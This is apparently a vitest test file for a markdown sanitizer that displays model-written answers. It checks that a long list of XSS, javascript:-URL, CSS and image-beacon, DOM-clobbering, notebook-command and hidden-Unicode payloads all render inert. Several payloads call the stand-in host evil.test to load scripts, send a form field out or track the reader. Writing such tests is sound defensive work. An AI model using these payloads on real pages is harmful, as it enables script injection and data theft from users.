import { describe, expect, test } from "vitest";
import { sanitize } from "../../src/markdown/sanitize";
import { drawn } from "./helpers";

/** Each tries to run something, to fetch something, or to reach out of its bubble. */
const PAYLOADS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src=https://evil.test/pixel.png>",
  "<img srcset='https://evil.test/a 1x'>",
  "<image href=https://evil.test/a>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><foreignObject><iframe src=https://evil.test></iframe></foreignObject></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<math href='javascript:alert(1)'>x</math>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='javascript:alert(1)'></object>",
  "<embed src='https://evil.test/x.swf'>",
  "<base href='https://evil.test/'>",
  "<link rel=stylesheet href=https://evil.test/x.css>",
  "<link rel=prefetch href=https://evil.test/x>",
  "<meta http-equiv=refresh content='0;url=https://evil.test'>",
  "<style>*{background:url(https://evil.test/x)}</style>",
  "<style>@import 'https://evil.test/x.css';</style>",
  "<div style='position:fixed;inset:0;background:red'>cover</div>",
  "<p style='background:url(https://evil.test/x)'>x</p>",
  "<b style=position:fixed onclick=alert(1)>x</b>",
  "<sub onmouseover=alert(1)>x</sub>",
  "<br onload=alert(1)>",
  "<form action=https://evil.test><input name=key><button>Send</button></form>",
  "<input autofocus onfocus=alert(1)>",
  "<button onclick=alert(1)>Allow once</button>",
  "<textarea>x</textarea><select><option>x</select>",
  "<details ontoggle=alert(1) open>x</details>",
  "<video src=https://evil.test/x.mp4 autoplay onerror=alert(1)></video>",
  "<video poster=https://evil.test/x.png></video>",
  "<audio src=https://evil.test/x.mp3 autoplay>",
  "<source src=x onerror=alert(1)><track src=https://evil.test/x>",
  "<body onload=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='https://evil.test' ping='https://evil.test/p' onclick=alert(1)>x</a>",
  "<a id=rb-root name=getElementById>clobber</a>",
  "<img name=body><img id=cookie>",
  "<div data-commandlinker-command='notebook:run-all-cells'>click me</div>",
  "<span data-commandlinker-command=filebrowser:delete data-commandlinker-args='{}'>x</span>",
  "<span class='jp-Dialog jp-mod-accept'>x</span>",
  "<template><img src=x onerror=alert(1)></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<slot name=x></slot><rb-root is=x-y></rb-root>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml-stylesheet href='https://evil.test/x.css'?>",
  "<portal src=https://evil.test></portal><dialog open>x</dialog>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#x09;script:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://evil.test/1)",
  "[x](//evil.test/protocol-relative)",
  "[x](/lab/api/settings)",
  '[x](https://evil.test "onmouseover=alert(1)")',
  '[x](https://evil.test"onmouseover="alert(1))',
  "[x][r]\n\n[r]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![x](https://evil.test/pixel.png)",
  '![x" onerror="alert(1)](https://evil.test/pixel.png)',
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "![x](data:text/html,<script>alert(1)</script>)",
  "[![x](https://evil.test/p.png)](javascript:alert(1))",
  "```html\n<img src=x onerror=alert(1)>\n```",
  '```"><img/src=x/onerror=alert(1)>\ncode\n```',
  "```python onerror=alert(1)\nx\n```",
  "`<img src=x onerror=alert(1)>`",
  "| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|---|---|\n| <svg onload=alert(1)> | x |",
  "> <script>alert(1)</script>",
  "- [ ] <input onfocus=alert(1) autofocus>",
  "# <img src=x onerror=alert(1)>",
  "**<svg/onload=alert(1)>**",
  "$\\href{javascript:alert(1)}{x}$",
  "$$\\includegraphics{https://evil.test/x.png}$$",
  "$<img src=x onerror=alert(1)>$",
  "\\[<script>alert(1)</script>\\]",
  "a<sub>b<img src=x onerror=alert(1)></sub>",
  "<b>bold<script>alert(1)</script></b>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<p>\u0000<scr\u0000ipt>alert(1)</script>",
  "\u202e<script>alert(1)</script>",
];

const OWN_TAGS = new Set(
  "a blockquote br button code del div em h1 h2 h3 h4 h5 h6 hr i b img ins kbd li mark ol p pre s small span strong sub sup table tbody td th thead tr u ul".split(
    " ",
  ),
);
const OWN_ATTRIBUTES = new Set(
  "align aria-label class dir href rel role start tabindex target title type".split(" "),
);

function expectInert(root: ParentNode): void {
  for (const element of root.querySelectorAll("*")) {
    const tag = element.localName;
    expect(OWN_TAGS, `<${tag}>`).toContain(tag);
    for (const { name, value } of element.attributes) {
      expect(OWN_ATTRIBUTES, `${tag} ${name}=${value}`).toContain(name);
      if (name === "href") expect(value).toMatch(/^(?:https?:|mailto:)/);
      if (name === "class") expect(value).toMatch(/^(?:(?:rb-|hljs|language-)[\w+#.-]*\s?)*$/);
    }
    expect(tag === "img" && !element.getAttribute("src")?.startsWith("data:")).toBe(false);
    if (tag === "button") expect(element.className).toMatch(/^rb-(?:code-action|image-placeholder)$/);
  }
}

describe("what a model wrote", () => {
  for (const payload of PAYLOADS) {
    test(`is inert: ${JSON.stringify(payload).slice(0, 70)}`, () => {
      expectInert(drawn(payload).root);
      expectInert(drawn(`Text before ${payload} and after`).root);
      expectInert(drawn(`- item\n\n  ${payload.replaceAll("\n", "\n  ")}`).root);
    });
  }

  test("cannot get past the second wall either, were the parser to fail", () => {
    for (const payload of PAYLOADS) {
      const nodes = sanitize(payload);

      expectInert(nodes);
    }
  });

  test("shows markup as the text it is", () => {
    const { root } = drawn("Use the <Component prop='x'> tag & <img src=x>.");

    expect(root.textContent?.trim()).toBe("Use the <Component prop='x'> tag & <img src=x>.");
  });

  test("may use simple marks", () => {
    const { root } = drawn("H<sub>2</sub>O, press <kbd>Esc</kbd><br>next");

    expect(root.querySelector("sub")?.textContent).toBe("2");
    expect(root.querySelector("kbd")?.textContent).toBe("Esc");
    expect(root.querySelectorAll("br")).toHaveLength(1);
  });
});

describe("links", () => {
  test("open only after the whole address was shown", () => {
    const { root, asked } = drawn("[https://good.test](https://evil.test/a?b=c)");
    const link = root.querySelector("a");

    const click = new MouseEvent("click", { bubbles: true, cancelable: true });
    link?.dispatchEvent(click);
    const middle = new MouseEvent("auxclick", { bubbles: true, cancelable: true, button: 1 });
    link?.dispatchEvent(middle);

    expect(click.defaultPrevented && middle.defaultPrevented).toBe(true);
    expect(asked.links).toEqual(["https://evil.test/a?b=c", "https://evil.test/a?b=c"]);
    expect(link?.rel).toBe("noopener noreferrer nofollow");
    expect(link?.title).toBe("https://evil.test/a?b=c");
  });

  test("show a host in other letters for what it is", () => {
    const { root } = drawn("[x](https://аpple.test/)");

    expect(root.querySelector("a")?.title).toBe("https://xn--pple-43d.test/");
  });
});

describe("pictures", () => {
  test("are not fetched before a click, and the button tells from where", () => {
    const { root } = drawn("![a cat](https://evil.test/cat.png?q=secret)");
    const button = root.querySelector("button");

    expect(root.querySelector("img")).toBeNull();
    expect(button?.textContent).toContain("https://evil.test/cat.png?q=secret");

    button?.click();

    expect(root.querySelector("img")?.getAttribute("src")).toBe("https://evil.test/cat.png?q=secret");
    expect(root.querySelector("img")?.referrerPolicy).toBe("no-referrer");
  });

  test("that the answer itself holds are shown", () => {
    const { root } = drawn("![dot](data:image/png;base64,iVBORw0KGgo=)");

    expect(root.querySelector("img")?.src).toBe("data:image/png;base64,iVBORw0KGgo=");
  });

  test("that are long are not torn by the cutting of long lines", () => {
    const { root } = drawn(`Before ![dot](data:image/png;base64,${"A".repeat(200_000)}) after`);

    expect(root.querySelector("img")?.src.length).toBeGreaterThan(200_000);
  });
});

describe("hidden characters", () => {
  test("are shown in code", () => {
    const { root } = drawn("```python\nif a:\u202e return\u200b x\n```\n\n`in\u2066line`");

    const labels = [...root.querySelectorAll(".rb-hidden-char")].map((label) => label.textContent);
    expect(labels).toEqual(["U+202E", "U+200B", "U+2066"]);
    expect(root.querySelector(".rb-code-note")?.textContent).toBe("contains hidden characters");
  });

  test("tags that smuggle a text are shown", () => {
    const { root } = drawn("```\nhello\u{e0068}\u{e0069}\n```");

    expect(root.querySelectorAll(".rb-hidden-char")).toHaveLength(2);
  });

  test("the joiner of an emoji is not hidden", () => {
    const { root } = drawn("```\n👩‍💻 ok\n```");

    expect(root.querySelectorAll(".rb-hidden-char")).toHaveLength(0);
    expect(root.querySelector("code")?.textContent).toBe("👩‍💻 ok");
  });
});
